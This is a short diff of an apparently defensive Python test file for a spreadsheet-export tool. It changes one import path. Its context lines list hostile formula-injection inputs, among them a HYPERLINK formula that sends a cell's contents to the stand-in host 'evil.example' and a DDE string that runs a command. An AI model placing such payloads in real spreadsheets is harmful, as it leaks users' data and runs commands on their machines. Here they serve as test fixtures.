@@ -18,7 +18,7 @@ from click.testing import CliRunner
 from openpyxl import Workbook
 
 from xlscorecard.cli import cli
-from xlscorecard.records import FORMULA_TRIGGERS
+from xlscorecard.outputs.records import FORMULA_TRIGGERS
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
